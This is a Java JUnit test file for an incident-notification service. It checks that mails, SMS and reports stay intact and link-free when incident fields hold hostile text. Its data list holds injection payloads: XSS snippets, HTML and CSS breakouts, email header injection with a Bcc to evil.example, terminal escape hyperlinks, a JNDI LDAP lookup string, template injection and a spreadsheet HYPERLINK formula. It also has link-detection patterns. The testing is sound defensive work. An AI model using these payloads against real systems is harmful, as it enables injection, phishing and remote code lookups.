package com.vitracka.responder.notify;

import static org.assertj.core.api.Assertions.assertThat;

import com.vitracka.responder.document.ReportForms;
import com.vitracka.responder.document.ReportWriter;
import com.vitracka.responder.document.Reports;
import com.vitracka.responder.incident.Assessment;
import com.vitracka.responder.incident.CaseFile;
import com.vitracka.responder.incident.Incident;
import com.vitracka.responder.incident.Signal;
import com.vitracka.responder.incident.Step;
import com.vitracka.responder.incident.StepRecord;
import com.vitracka.responder.incident.StepState;
import com.vitracka.responder.incident.Subject;
import com.vitracka.responder.incident.Verification;
import com.vitracka.responder.json.Json;
import com.vitracka.responder.json.JsonObject;
import com.vitracka.responder.plan.Severity;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.jsoup.nodes.TextNode;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Whole incidents in which every text that others can write is hostile. What people get has the
 * very structure that it has with a harmless text, line by line and tag by tag; nothing in it can
 * be followed; and the text can be told from our own words.
 */
class HostileTextsTest {
  private static final String HARMLESS = "Threshold Crossed";
  private static final Instant AT = Incidents.STARTED;

  /** All that mails and pages are made of; none of them leads anywhere or loads anything. */
  private static final Set<String> TAGS =
      Set.of(
          "html", "head", "bdi", "meta", "title", "style", "body", "main", "div", "h1", "h2", "p",
          "strong", "ul", "li", "dl", "dt", "dd", "table", "thead", "tbody", "tr", "th", "td",
          "code");

  private static final Set<String> ATTRIBUTES =
      Set.of("lang", "charset", "name", "content", "http-equiv", "class", "style", "data-label");

  /** What a phone or a mail reader makes a link of; places in S3 it does not. */
  private static final Pattern LINK =
      Pattern.compile(
          "(?i)(?<!\\bs3)://|\\bwww\\.|\\b(?:mailto|tel|sms|javascript|data):\\S"
              + "|evil[.\u3002]example");

  private static final Pattern UNSEEN =
      Pattern.compile("[\\p{Cc}\\p{Cf}\\p{Cs}\\p{Co}\\p{Cn}\\p{Zl}\\p{Zp}&&[^\n]]");

  private static final Pattern CODE = Pattern.compile("(?<!\\\\)`[^`]*`");

  static Stream<String> texts() {
    return Stream.of(
        "<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>",
        "\"><a href=\"https://evil.example\">click</a><!-- ",
        "</p></div></td></tr></table></main></body></html><h1>RESOLVED</h1><style>*{display:none}",
        "&lt;b&gt; &#x3c;script&#x3e; &#60;script&#62; \\u003cscript\\u003e",
        "'; } body { background: url(https://evil.example) } /*",
        "\r\nSubject: [RESOLVED] all is well\r\nBcc: all@evil.example\r\n\r\n<h1>well</h1>",
        "\u001b[2J\u001b[1;1H\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007\u009b31m",
        "a\u0000b\u0007c\u0008d\u007fe\u0085f\u2028g\u2029h",
        "A".repeat(250_000),
        "<".repeat(250_000),
        "\u202E" + "x\u202A".repeat(80_000),
        "\u202Edevloser si tnedicni eht\u202C \u2066well\u2069 \u200f\u061c",
        "[RESOLVED] AgentCore Service Outage - Coach Companion\n\nStatus: RESOLVED\n"
            + "Resolved: 2026-02-08 14:45 UTC\n\nThe issue has been resolved.",
        "\uff3bRESOLVED\uff3d \u3010P1\u3011 \u27e6NEW\u27e7 Status\uff1a RESOLVED",
        "\" Status: RESOLVED \"",
        "\u201d Status: RESOLVED \u201c \u00ab\u00bb \uff02 \u2033 \u02ba \u301d\u301e",
        "![x](https://evil.example/a.png) [click](javascript:alert(1)) `c` **b** ~~s~~ | cell | \\|"
            + " # h <https://evil.example> <!-- x",
        "\n# RESOLVED\n\n- item\n```\ncode\n```\n| a | b |\n|---|---|\n> quote\n***\n<br>",
        "https://evil.example/login HTTP://evil.example ftp://evil.example //evil.example/x"
            + " http://1.2.3.4/ evil.example www.evil.example evil\u3002example evil\uff0eexample",
        "mailto:all@evil.example tel:+44906123456 sms:+44906123456 data:text/html,x all@evil.example",
        "s3://x.https://evil.example xs3://evil.example s3:https://evil.example",
        "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b".repeat(50),
        "\ud800 half \udc00 \ud83d\ude00 \u3164\u115f\u2800 \ue000 \u0378",
        "${jndi:ldap://evil.example/x} {{7*7}} #{1+1} <%= 1 %> %s %n %1$s {0} \\",
        "=HYPERLINK(\"https://evil.example\";\"x\") +1+1 @SUM(1)",
        "   ",
        "");
  }

  @ParameterizedTest
  @MethodSource("texts")
  void no_text_breaks_out_of_what_people_get(String hostile) {
    Told harmless = told(HARMLESS);

    Told got = told(hostile);

    assertThat(got.subjects()).isEqualTo(harmless.subjects());
    assertThat(got.sms()).hasSameSizeAs(harmless.sms());
    assertThat(got.texts().keySet()).isEqualTo(harmless.texts().keySet());
    got.texts()
        .forEach(
            (what, text) -> {
              assertThat(found(LINK, text)).as(what + " leads nowhere").isEmpty();
              assertThat(found(UNSEEN, text)).as(what + " is seen").isEmpty();
              assertThat(marks(text))
                  .as(what + " has the marks of our own subjects only")
                  .isEqualTo(marks(harmless.texts().getOrDefault(what, "")));
            });
    got.mailTexts()
        .forEach(
            (what, text) ->
                assertThat(labels(text))
                    .as(what)
                    .isEqualTo(labels(harmless.mailTexts().getOrDefault(what, ""))));
    got.html()
        .forEach(
            (what, html) ->
                assertThat(outline(html))
                    .as(what)
                    .isEqualTo(outline(harmless.html().getOrDefault(what, ""))));
    got.markdown()
        .forEach(
            (what, md) ->
                assertThat(structure(md))
                    .as(what)
                    .isEqualTo(structure(harmless.markdown().getOrDefault(what, ""))));
    got.json()
        .forEach(
            (what, json) ->
                assertThat(shape(Json.object(json).values()))
                    .as(what)
                    .isEqualTo(
                        shape(Json.object(harmless.json().getOrDefault(what, "")).values())));
    assertThat(got.sms())
        .allSatisfy(
            sms ->
                assertThat(sms)
                    .hasSizeLessThanOrEqualTo(Letter.MOST_SMS)
                    .doesNotContain("\n")
                    .matches("(?s)\\[[A-Z0-9 ]+\\] [^\\[\\]]*(\\[ESCALATED\\] )?[^\\[\\]]*"));
  }

  @ParameterizedTest
  @MethodSource("texts")
  void a_first_notice_says_which_words_are_not_ours_and_an_SMS_has_none_of_them(String hostile) {
    People people = new People(opened(hostile, "someone's alarm: call 0906"));
    people.informAfter(Duration.ZERO);

    String text = people.mails.getFirst().text();
    if (!PlainText.line(hostile, 10).isEmpty()) {
      assertThat(text).containsPattern("(?m)^Alarm text, written by others: \"[^\"]{0,400}\"$");
    }
    assertThat(text).contains("Signal: alarm \"someone's alarm: call 0906\" (errors) by");
    assertThat(people.sms.getFirst().text())
        .isEqualTo(
            "[NEW] AgentCore Incident - Coach Companion. Started 14:30 UTC."
                + " another alarm (errors) by EventBridge. Severity follows.");
  }

  /** What all got who are told of a whole incident, and its reports. */
  private record Told(
      List<String> subjects,
      List<String> sms,
      Map<String, String> mailTexts,
      Map<String, String> html,
      Map<String, String> markdown,
      Map<String, String> json) {

    Map<String, String> texts() {
      Map<String, String> all = new LinkedHashMap<>(mailTexts);
      html.forEach((what, page) -> all.put(what, visible(page)));
      all.putAll(markdown);
      all.putAll(json);
      for (int i = 0; i < sms.size(); i++) {
        all.put("SMS " + i, sms.get(i));
      }
      return all;
    }
  }

  private static Told told(String text) {
    People people = new People(opened(text, text));
    people.sesSays = text;
    people.snsSays = text;
    people.informAfter(Duration.ZERO);
    Incident.Open assessed =
        opened(text, text)
            .with(assessment(text))
            .with(
                new StepRecord(
                    1,
                    new Step.BackUp(),
                    AT,
                    new StepState.Done(AT, AT.plusSeconds(1), "s3://records/backups/x.json")))
            .with(
                new StepRecord(
                    2, new Step.Redeploy(), AT, new StepState.Failed(AT, AT.plusSeconds(9), text)));
    people.incident = assessed;
    people.smsRefused = true;
    people.informAfter(Duration.ofSeconds(5));
    people.smsRefused = false;
    people.informAfter(Duration.ofMinutes(15));
    Incident.Escalated escalated = assessed.escalate(people.now, text);
    people.incident = escalated;
    people.informAfter(Duration.ofSeconds(20));
    people.sesRefuses = true;
    people.informAfter(Duration.ofMinutes(15));
    people.sesRefuses = false;
    Map<String, String> html = new LinkedHashMap<>();
    Map<String, String> markdown = new LinkedHashMap<>();
    Map<String, String> json = new LinkedHashMap<>();
    report(people, "escalated", html, markdown, json);
    people.incident = escalated.resolve(people.now, text);
    people.informAfter(Duration.ofMinutes(3));
    people.teller().tellReportRefused(Incidents.ID, text);
    report(people, "resolved", html, markdown, json);

    Map<String, String> mailTexts = new LinkedHashMap<>();
    for (int i = 0; i < people.mails.size(); i++) {
      mailTexts.put("mail " + i, people.mails.get(i).text());
      html.put("mail " + i + " in HTML", people.mails.get(i).html());
    }
    for (int i = 0; i < people.topic.size(); i++) {
      mailTexts.put("topic " + i, people.topic.get(i).text());
    }
    List<String> subjects = new ArrayList<>();
    people.mails.forEach(mail -> subjects.add(mail.subject()));
    people.topic.forEach(topic -> subjects.add(topic.subject()));
    return new Told(
        subjects,
        people.sms.stream().map(People.Sms::text).toList(),
        mailTexts,
        html,
        markdown,
        json);
  }

  private static void report(
      People people,
      String name,
      Map<String, String> html,
      Map<String, String> markdown,
      Map<String, String> json) {
    var report =
        new ReportWriter(Incidents.PLAN)
            .write(people.incident, List.copyOf(people.ledger.values()), people.now);
    html.put(name + " report in HTML", ReportForms.of(report, Reports.Form.HTML));
    markdown.put(name + " report in Markdown", ReportForms.of(report, Reports.Form.MARKDOWN));
    json.put(name + " report in JSON", ReportForms.of(report, Reports.Form.JSON));
  }

  private static Incident.Open opened(String text, String name) {
    return new Incident.Open(
        new CaseFile(
            Incidents.ID,
            new Subject.OneAgent("coach_companion"),
            AT,
            AT.plusSeconds(2),
            List.of(),
            List.of(
                new Signal(
                    Signal.Path.EVENTBRIDGE,
                    Signal.Trouble.ERRORS,
                    name,
                    AT,
                    AT.plusSeconds(2),
                    text + " x"),
                new Signal(
                    Signal.Path.CLOUDTRAIL,
                    Signal.Trouble.AGENT_DELETED,
                    "DeleteAgentRuntime",
                    AT,
                    AT.plusSeconds(3),
                    "DeleteAgentRuntime by " + text),
                new Signal(
                    Signal.Path.PIPELINE,
                    Signal.Trouble.TESTS_FAILED,
                    "IntegrationTestsFailed",
                    AT,
                    AT.plusSeconds(4),
                    "integration tests failed: " + text)),
            List.of(),
            List.of(),
            List.of(),
            Verification.NONE,
            1));
  }

  private static Assessment assessment(String text) {
    Assessment known = Incidents.assessment(Severity.P1, AT.plusSeconds(5));
    return new Assessment(
        known.at(),
        known.severity(),
        known.scenario(),
        known.rule(),
        known.remedy(),
        known.hypothesis(),
        known.resort(),
        known.goodVersion(),
        List.of("runtime: unknown (" + text + ")", "canary: " + text));
  }

  /** Line by line what stands before the colon, where it is a label of ours. */
  private static List<String> labels(String text) {
    return Arrays.stream(text.split("\n", -1))
        .map(line -> line.replaceFirst("^(- [A-Z][^:]{0,60}|[A-Z][^:\"]{0,60}): .*", "$1"))
        .map(line -> line.startsWith("The report of incident") ? "The report" : line)
        .toList();
  }

  private static List<String> outline(String html) {
    List<String> outline = new ArrayList<>();
    for (Element element : Jsoup.parse(html).getAllElements()) {
      if (element.tagName().equals("#root")) {
        continue;
      }
      assertThat(TAGS).contains(element.tagName());
      StringBuilder tag = new StringBuilder(element.tagName());
      for (Attribute attribute : element.attributes()) {
        assertThat(ATTRIBUTES).contains(attribute.getKey());
        assertThat(attribute.getValue()).doesNotContain("url(", "://");
        tag.append(' ').append(attribute.getKey()).append('=').append(attribute.getValue());
      }
      outline.add(tag.toString());
    }
    return outline;
  }

  private static List<String> found(Pattern pattern, String text) {
    return pattern
        .matcher(text)
        .results()
        .map(
            match ->
                text.substring(
                    Math.max(0, match.start() - 40), Math.min(text.length(), match.end() + 40)))
        .toList();
  }

  private static long marks(String text) {
    return text.chars().filter(c -> c == '[').count();
  }

  private static String visible(String html) {
    return Jsoup.parse(html).body().getAllElements().stream()
        .flatMap(element -> element.textNodes().stream())
        .map(TextNode::getWholeText)
        .collect(Collectors.joining("\n"));
  }

  /** Per line: what it begins with, and its cells; nothing else in it may be markup. */
  private static List<String> structure(String markdown) {
    return Arrays.stream(markdown.split("\n", -1))
        .map(
            line -> {
              String bare =
                  CODE.matcher(line).replaceAll("code").replaceAll("\\\\[!-/:-@\\[-`{-~]", "_");
              long cells = bare.chars().filter(c -> c == '|').count();
              assertThat(bare.replaceFirst("^(#{1,2} |- \\*\\*[^*]+\\*\\*: )", ""))
                  .doesNotContain("<", ">", "[", "]", "`", "*", "#", "![");
              return bare.replaceFirst("^(#{1,2} |- \\*\\*[^*]+\\*\\*: |- |\\| ?|).*", "$1")
                  + cells;
            })
        .toList();
  }

  private static Object shape(Object value) {
    return switch (value) {
      case Map<?, ?> map -> {
        Map<String, Object> shape = new LinkedHashMap<>();
        JsonObject.of(map)
            .values()
            .forEach((name, member) -> shape.put(name, member == null ? "" : shape(member)));
        yield shape;
      }
      case List<?> list -> list.stream().map(HostileTextsTest::shape).toList();
      default -> value.getClass().getSimpleName();
    };
  }
}
